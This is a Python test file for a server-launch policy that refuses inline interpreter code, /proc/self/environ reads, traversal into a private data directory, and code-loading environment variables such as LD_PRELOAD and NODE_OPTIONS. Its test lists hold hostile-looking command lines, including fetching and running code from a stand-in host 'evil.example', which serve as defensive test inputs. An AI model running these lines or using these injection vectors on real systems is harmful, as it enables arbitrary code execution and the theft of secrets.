"""The list of executables contains whoever writes records."""

from __future__ import annotations

import shlex
import sys
from pathlib import Path

import pytest

from bascule.errors import LaunchDenied
from bascule.model.code_variables import loads_code
from bascule.model.secret_use import server_use
from bascule.model.server import ServerRecord, Stdio
from bascule.node.executables import wide_entries
from bascule.node.inline_code import inline_code
from bascule.node.pool.launch import PrivateHomes, resolve_launch
from bascule.outbound.references import Reading
from bascule.outbound.rules import NodeRules

HERE = Path(__file__).resolve().parent
PYTHON = Path(sys.executable).resolve()
pytestmark = pytest.mark.requirement("transport:executables:contained")


class Bin:
    """A folder of programs on the node's PATH; nothing of it is started here."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.environ = {"PATH": str(folder), "PYTHONPATH": "/srv/lib", "HOME": "/home/ann"}
        folder.mkdir()
        self.real_parent = str(folder.parent.resolve())

    def add(self, name: str, target: Path | None = None) -> Path:
        path = self.folder / name
        if target is not None:
            path.symlink_to(target)
        elif not path.exists():
            path.write_text("#!/bin/true\n", encoding="utf-8")
            path.chmod(0o755)
        return path

    async def start(self, rules: NodeRules, stdio: Stdio) -> tuple[str, ...]:
        record = ServerRecord(server_id="s", transport="stdio", stdio=stdio)
        async with PrivateHomes() as homes:
            reading = Reading(rules, self.environ, None, server_use(record))
            found = await resolve_launch(record, reading, homes.path)
        return found.launch.argv[1:]

    async def line(self, text: str, *executables: str, cwd: str | None = None) -> tuple[str, ...]:
        words = shlex.split(text)
        self.add(words[0])
        stdio = Stdio(command=words[0], args=tuple(words[1:]), cwd=cwd)
        return await self.start(NodeRules(executables=executables), stdio)

    async def is_refused(self, text: str, *executables: str, cwd: str | None = None) -> str:
        with pytest.raises(LaunchDenied) as caught:
            await self.line(text, *executables, cwd=cwd)
        return str(caught.value)


@pytest.fixture
def bin_(tmp_path: Path) -> Bin:
    return Bin(tmp_path / "bin")


INLINE = r"""
python3 -c x
python3 -Ic x
python3 -cx
python3 -W ignore -c x
python3 -X utf8 -uc x
python3.11 -c x
pypy3 -c x
python3 -
python3 /dev/stdin
python3 /proc/self/fd/0
python3 -m timeit x
python3 -Im timeit x
python3 -mtimeit x
python3 -m cProfile -m timeit x
bash -c x
bash -xc x
bash -o pipefail -c x
bash --norc -c x
bash --rcfile x -i
sh -ec x
dash -c x
zsh -c x
fish --command=x
node -e x
node --eval=x
node -pe x
node -r ./x s.js
node --require=./x s.js
node --import data:text/javascript,x s.js
node --title x -e y
node --experimental_loader ./x s.js
nodejs -e x
node -
deno eval x
deno run -
deno run data:text/javascript,x
bun -e x
bun exec x
perl -e x
perl -ne x
perl -MPOSIX x
perl -Ilib -E x
ruby -e x
ruby -rsocket x
php -r x
php -d auto_prepend_file=x y
lua -e x
pwsh -Command x
awk x
awk -F: x
gawk --source x
sed x
env sh -c x
env -S "sh -c x"
env -iS x
env FOO=1 bash -c x
env PYTHONPATH=/x python3 -m y
busybox sh -c x
xargs sh -c x
timeout 5 bash -c x
uv run python -c x
uvx python -c x
uvx --from x python3.12 -c x
npx -c x
npx --call=x
npx -y -c x
npx -p foo -c x
npm exec -c x
find . -exec x
git -c core.sshCommand=x clone
docker run img sh -c x
perl -le x
perl -l -e x
perl -i -e x
perl -0e x
perl -l012ne x
perl5.36-x86_64-linux-gnu -e x
ruby -W -e x
ruby -W0e x
ruby -KUe x
julia -O -e x
php -t / -r x
bash -oc pipefail x
bash +O extglob -c x
bash /proc/self/cmdline x
bash /proc/self/environ
python3 /proc/self/environ
python3 //dev/stdin
python3 /dev/../proc/self/environ
python3 ../../../../proc/self/environ
python3 -m cProfile -o x -m timeit x
python3 -m trace --trace --module timeit x
python3 -m coverage run -m timeit x
python3 -m _pyrepl
python3 -m pip install x
python3.11-dbg -c x
deno -q eval x
deno task --eval x
deno run https://evil.example/x.ts
node --experimental-network-imports https://evil.example/x.mjs
bun --silent exec x
fish -C x
nu --commands x
nu -e x
uvx python@3.12 -c x
npx -y node@22 -e x
uv run -m timeit x
uv run --module=timeit x
npx --node-options=--import=data:x pkg
npx --loglevel silly -c x
npm --script-shell=/x exec pkg
java -XX:OnOutOfMemoryError=x -jar x.jar
""".strip().splitlines()
ORDINARY = r"""
python3 server.py -c conf
python3 -m mcp_server_time --local-timezone UTC
python3 -u -m server -c x
python3 -X utf8 server.py
node server.js -e prod
node --no-warnings server.js -e prod
node dist/index.js --require x
uvx mcp-server-time -c x
uvx --from mcp-server-git mcp-server-git --repository /x
npx -y @modelcontextprotocol/server-filesystem /tmp -c conf
bash script.sh -c x
bash -e script.sh
mcp-server-git --repository /x -c y
perl -Imine script.pl -e
ruby script.rb -e
deno run --allow-net server.ts
bun run server.ts
awk -f program.awk file
docker run -i --rm -e API_KEY mcp/time
java -jar server.jar -e
uv run server.py
uv --directory /srv/server run server
uv run -m mcp_server_time
npx --yes @modelcontextprotocol/server-memory -c conf
npx --prefer-offline pkg -c conf
perl -w -Ilib script.pl -e
perl -CSD script.pl
perl -i.bak script.pl
ruby -W:no-deprecated script.rb
ruby -W0 script.rb -e
bash -o pipefail script.sh -c x
bash -eo pipefail script.sh -c x
deno task start
python3 /srv/dev/server.py
python3 ../proc_tools/server.py
""".strip().splitlines()


@pytest.mark.parametrize("line", INLINE)
async def test_a_listed_program_is_not_given_its_code_in_the_line(bin_: Bin, line: str):
    name = line.split()[0]
    for entry in (name, "*", f"{bin_.folder}/*"):
        said = await bin_.is_refused(line, entry)
        assert said.startswith("stdio.args[")
        assert "[node] executables" in said


@pytest.mark.parametrize("line", ORDINARY)
async def test_a_listed_program_has_any_other_arguments(bin_: Bin, line: str):
    name, *args = shlex.split(line)
    assert list(await bin_.line(line, name)) == args


@pytest.mark.parametrize("line", INLINE)
async def test_without_a_list_any_line_is_started(bin_: Bin, line: str):
    words = shlex.split(line)
    bin_.add(words[0])
    stdio = Stdio(command=words[0], args=tuple(words[1:]))
    assert list(await bin_.start(NodeRules(), stdio)) == words[1:]


async def test_another_name_for_an_interpreter_does_not_hide_it(bin_: Bin):
    bin_.add("my-tool", PYTHON)
    assert "-c" in await bin_.is_refused("my-tool -c x", "my-tool")
    assert await bin_.line("my-tool server.py", "my-tool") == ("server.py",)


async def test_the_code_of_a_refused_line_is_not_repeated(bin_: Bin):
    assert "hunter2" not in await bin_.is_refused("python3 -chunter2", "python3")
    assert "hunter2" not in await bin_.is_refused("node --eval=hunter2", "node")


# Whole lines


@pytest.mark.parametrize(
    ("entry", "admitted", "refused"),
    [
        (
            "uvx mcp-server-time *",
            ["uvx mcp-server-time --utc"],
            ["uvx mcp-server-time", "uvx mcp-server-time a b", "uvx other x", "uvx"],
        ),
        (
            "uvx mcp-server-time **",
            ["uvx mcp-server-time", "uvx mcp-server-time a", "uvx mcp-server-time a b"],
            ["uvx mcp-server-timer", "uvx --from x mcp-server-time", "uvx"],
        ),
        (
            "python3 -m server --root=/srv/*",
            ["python3 -m server --root=/srv/a"],
            ["python3 -m server --root=/etc", "python3 -m server", "python3 -m other"],
        ),
        ("python3 *", ["python3 server.py"], ["python3 -cx", "python3 a b", "python3"]),
        ("python3 **", ["python3 a b", "python3"], ["python3 -c x", "python3 -m timeit x"]),
        ("python3 -c *", ["python3 -c x"], ["python3 -c x y", "python3 -Ic x"]),
        ("sh -c 'exec server'", ["sh -c 'exec server'"], ["sh -c 'exec other'", "sh script"]),
        ("perl -e 1 *", ["perl -e 1 a"], ["perl -e 1 -ex"]),
    ],
)
async def test_an_entry_with_spaces_is_the_whole_line(
    bin_: Bin, entry: str, admitted: list[str], refused: list[str]
):
    for line in admitted:
        assert list(await bin_.line(line, entry)) == shlex.split(line)[1:]
    for line in refused:
        await bin_.is_refused(line, entry)


async def test_a_whole_line_begins_with_a_program_by_name_or_path(bin_: Bin):
    path = bin_.add("server")
    assert await bin_.line("server a", f"{path} *") == ("a",)
    assert await bin_.line(f"{path} a", f"{bin_.folder}/ser* *") == ("a",)
    await bin_.is_refused(f"{path} a", "server *")


async def test_a_program_with_a_space_in_its_path_is_listed_in_quotes(bin_: Bin):
    tool = bin_.add("my tool")
    said = await bin_.is_refused(f"'{tool}' a", "server")
    assert f"add \"'{tool}' **\" to [node] executables" in said
    assert await bin_.line(f"'{tool}' a b", f"'{tool}' **") == ("a", "b")


async def test_the_folder_of_a_whole_line_is_not_the_records_choice(bin_: Bin):
    """python -m, npx and uv take modules and settings from the folder they are started in."""
    entry, line = "python3 -m mcp_server_time", "python3 -m mcp_server_time"
    folder = HERE  # temporary folders may be in memory, below /dev
    assert "stdio.cwd" in await bin_.is_refused(line, entry, cwd=str(folder))
    stdio = Stdio(command="python3", args=("-m", "mcp_server_time"), cwd=str(folder))
    rules = NodeRules(executables=(entry,), files=(bin_.real_parent, str(folder)))
    assert await bin_.start(rules, stdio)
    assert await bin_.line(line, "python3", cwd=str(folder))


@pytest.mark.parametrize("folder", ["/proc/self", "/proc/self/fd", "/dev/fd", "/dev"])
async def test_no_listed_program_is_started_where_its_own_variables_are_files(
    bin_: Bin, folder: str
):
    """``environ`` there is what the record gave as variables, and any interpreter would run it."""
    said = await bin_.is_refused("python3 environ", "python3", cwd=folder)
    assert said.startswith("stdio.cwd")


@pytest.mark.requirement("security:own-files")
async def test_no_argument_leads_into_the_data_directory(bin_: Bin, tmp_path: Path):
    """A server that reads the folder it is told to would hand the keys to whoever may call it."""
    data, link = tmp_path / "data", tmp_path / "link"
    (data / "homes").mkdir(parents=True)
    link.symlink_to(data)
    bin_.add("server")
    here = f"{tmp_path}/bin/../data"
    for executables in (None, ("server",), ("server **",)):
        rules = NodeRules(private=(str(data),), executables=executables)
        for arg in (str(data), f"{data}/setup-token", f"--root={data}/", f"{link}", here):
            with pytest.raises(LaunchDenied, match=r"^stdio\.args\[1\]") as no:
                await bin_.start(rules, Stdio(command="server", args=("-v", arg)))
            assert "no record may" in str(no.value)
        uri = Stdio(command="server", args=(f"file://{data}/x",))
        with pytest.raises(LaunchDenied, match=r"^stdio\.args\[0\]"):
            await bin_.start(rules, uri)
        with pytest.raises(LaunchDenied, match=r"^stdio\.cwd"):
            await bin_.start(rules, Stdio(command="server", cwd=str(data)))
        assert await bin_.start(rules, Stdio(command="server", args=(f"{tmp_path}/database",)))


# Variables

LOADING = [
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PYTHONWARNINGS",
    "NODE_OPTIONS",
    "NODE_PATH",
    "BASH_ENV",
    "ENV",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYOPT",
    "RUBYLIB",
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EXEC_PATH",
    "GIT_CONFIG_COUNT",
    "GIT_CONFIG_KEY_0",
    "GIT_EXTERNAL_DIFF",
    "GIT_PAGER",
    "PAGER",
    "EDITOR",
    "GCONV_PATH",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "npm_config_script_shell",
    "NPM_CONFIG_REGISTRY",
    "UV_INDEX_URL",
    "PIP_INDEX_URL",
    "LUA_PATH",
    "LUA_INIT",
    "PHPRC",
    "OPENSSL_CONF",
    "SSH_ASKPASS",
    "PATH",
    "HOME",
    "XDG_CONFIG_HOME",
    "SHELL",
    "BASH_FUNC_ls",
    "ZDOTDIR",
    "DOTNET_STARTUP_HOOKS",
    "CLASSPATH",
    "BROWSER",
    "CC",
    "GOCACHEPROG",
    "RSYNC_RSH",
    "SVN_SSH",
    "CARGO_BUILD_RUSTC_WRAPPER",
    "RUSTC_WRAPPER",
    "TS_NODE_COMPILER",
    "COREPACK_NPM_REGISTRY",
    "CLOUDSDK_PYTHON",
    "NIX_CONFIG",
    "KRB5_CONFIG",
    "FPATH",
    "AWKPATH",
    "EMACSLOADPATH",
    "GUILE_LOAD_PATH",
    "VIMINIT",
    "PSQLRC",
    "HGRCPATH",
    "PUPPETEER_EXECUTABLE_PATH",
    "ld_preload",
]
SETTINGS = [
    "API_KEY",
    "LOG_LEVEL",
    "DATABASE_URL",
    "PYTHONUNBUFFERED",
    "NODE_ENV",
    "TZ",
    "LANG",
    "HTTPS_PROXY",
    "GOOGLE_API_KEY",
    "VITE_PORT",
    "NICKNAME",
    "RECOMMANDED",
]


@pytest.mark.parametrize("name", LOADING)
async def test_a_variable_that_loads_code_needs_to_be_listed_by_its_name(bin_: Bin, name: str):
    server = bin_.add("server")
    stdio = Stdio(command=str(server), env={name: "/tmp/evil"})
    assert not await bin_.start(NodeRules(), stdio)
    for variables in (None, ("*",), (f"{name[:-1]}*",)):
        rules = NodeRules(executables=("*",), variables=variables)
        with pytest.raises(LaunchDenied, match=rf"^stdio\.env: {name} would load other code") as no:
            await bin_.start(rules, stdio)
        assert f'add "{name}" to [node] variables' in str(no.value)
    assert not await bin_.start(NodeRules(executables=("*",), variables=(name,)), stdio)


async def test_the_nodes_own_value_of_such_a_variable_is_the_operators_choice(bin_: Bin):
    bin_.add("server")
    rules = NodeRules(executables=("server",), variables=("PYTHON*", "HOM?"))
    for stdio in (
        Stdio(command="server", env_from=("PYTHONPATH", "HOME")),
        Stdio(command="server", env={"PYTHONPATH": "${ENV:PYTHONPATH}", "HOME": "${HOME}"}),
    ):
        assert not await bin_.start(rules, stdio)
    for text in ("/evil:${PYTHONPATH}", "${PYTHONPATH:-/evil}", "${HOME}"):
        with pytest.raises(LaunchDenied):
            await bin_.start(rules, Stdio(command="server", env={"PYTHONPATH": text}))


@pytest.mark.parametrize("name", SETTINGS)
async def test_a_servers_own_settings_are_let_through(bin_: Bin, name: str):
    bin_.add("server")
    stdio = Stdio(command="server", env={name: "x"})
    assert not await bin_.start(NodeRules(executables=("server",)), stdio)
    assert not loads_code(name)


# What an operator should know


def test_an_entry_that_admits_any_package_is_told_with_one_that_does_not():
    rules = NodeRules(executables=("uvx", "/usr/bin/npx", "*", "server", "uvx mcp-server-time *"))
    uvx, npx, everything = wide_entries(rules)
    assert "'uvx' admits any package" in uvx
    assert "'uvx mcp-server-time *'" in uvx
    assert "'/usr/bin/npx' admits any package" in npx
    assert "'*' admits any program" in everything
    for name in ("npm", "deno", "bun", "pnpm", "nix"):
        assert "admits any package" in wide_entries(NodeRules(executables=(name,)))[0]
    for name in ("env", "/usr/bin/timeout", "xargs", "sudo", "busybox"):
        assert "starts any program" in wide_entries(NodeRules(executables=(name,)))[0]
    assert wide_entries(NodeRules()) == []


def test_nothing_is_inline_without_arguments():
    assert inline_code(["python3"], []) == []
    assert inline_code(["env"], [""]) == []
